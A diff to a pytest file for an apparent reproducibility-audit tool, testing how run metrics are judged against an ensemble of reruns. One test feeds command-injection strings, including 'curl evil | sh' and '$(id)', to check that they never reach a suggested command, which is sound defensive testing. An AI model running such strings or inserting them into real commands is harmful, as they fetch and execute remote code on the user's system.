@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import sys
+from statistics import fmean
+
 import numpy as np
 import pytest
 from manifests import record, rerun
@@ -196,4 +199,75 @@ def test_a_run_of_other_length_or_other_metrics_stands_on_no_rung():
     assert rung({"loss": [1.0, 0.9]}, ensemble(NEAR)).text == (
         "loss: 1 value in the ensemble, 2 in the run"
     )
-    assert rung({"accuracy": [1.0]}, ensemble(NEAR)).holds == "broken"
+    found = rung({"accuracy": [1.0]}, ensemble(NEAR))
+    assert found.holds == "cannot tell"
+    assert (
+        found.text == "cannot tell: the run has no loss; --ignore-metric NAME leaves a metric out"
+    )
+
+
+def test_a_value_that_one_run_of_the_ensemble_lacks_is_not_left_out_in_silence():
+    """However far away the run is there."""
+    both = [{"loss": item["loss"], "mae": item["loss"]} for item in NEAR]
+    whole = ensemble(both)
+    for lost in ((), (None,), (float("nan"),), (1e200,)):
+        damaged = whole.members[-1]._replace(series={"loss": (1.0005,), "mae": lost})
+        found = rung(
+            {"loss": [1.0012], "mae": [1e9]},
+            whole._replace(members=(*whole.members[:-1], damaged)),
+        )
+        assert found.holds == "cannot tell"
+        assert found.text == "cannot tell: not every run has a number for mae"
+
+
+def test_a_run_that_has_no_number_where_the_first_one_has_is_another():
+    missing = with_history({"loss": [0.0]})
+    fit = missing.outcomes.fits[0]._replace(history={"loss": (None,)})
+    lost = missing._replace(outcomes=missing.outcomes._replace(fits=(fit,)))
+    assert ladder(lost, ensemble(NEAR))[2].text == "loss is no value, and 1 in the first run"
+
+
+def test_equal_values_are_compared_by_their_bits():
+    """Their mean may be another number than each of them."""
+    odd = next(
+        value for value in np.linspace(0, 1, 999)[1:].tolist() if fmean([value] * 7) != value
+    )
+    both = [{"loss": [odd], "mae": item["loss"]} for item in (*NEAR, NEAR[0])]
+    assert rung({"loss": [odd], "mae": [1.0012]}, ensemble(both)).holds == "holds"
+    near = float(np.nextafter(odd, 9))
+    assert rung({"loss": [near], "mae": [1.0012]}, ensemble(both)).holds == "cannot tell"
+
+
+def test_runs_that_show_no_noise_measure_none():
+    """Though the run has other bits, and the same values."""
+    found = rung({"loss": [1.0]}, ensemble(runs(*[1.0] * 7)))
+    assert found.holds == "cannot tell"
+    assert found.text.endswith("all 7 runs end in the same values, which so show no noise")
+
+
+def test_a_metric_that_is_not_compared_decides_nothing():
+    both = [{"loss": item["loss"], "seconds": item["loss"]} for item in NEAR]
+    actual = with_history({"loss": [1.0012], "seconds": [77.0]})
+    assert ladder(actual, ensemble(both))[2].holds == "broken"
+    assert ladder(actual, ensemble(both), ignored=["seconds"])[2].holds == "holds"
+
+
+@pytest.mark.parametrize("huge", [1.7e308, -1.7e308, 1e200])
+def test_numbers_of_a_stranger_that_are_too_large_decide_nothing(huge):
+    found = rung({"loss": [1.0]}, ensemble(runs(1.0, *[huge, -huge] * 3)))
+    assert found.holds == "cannot tell"
+
+
+@pytest.mark.parametrize("hostile", ["x; curl evil | sh", "a\nb", "'open", "$(id)"])
+def test_words_of_a_stranger_become_no_command(hostile):
+    strange = ensemble(NEAR)._replace(repeated=hostile)
+    assert ladder(with_history({"loss": [1.0]}), strange)[1].text == (
+        "not measured: repro-audit repeat --perturb 6 SCRIPT ARGS"
+    )
+
+
+def test_without_scipy_nothing_is_measured_and_nothing_is_lost(monkeypatch):
+    monkeypatch.setitem(sys.modules, "scipy", None)
+    found = rung({"loss": [1.0012]}, ensemble(NEAR))
+    assert found.holds == "not measured"
+    assert "repro-audit[noise]" in found.text
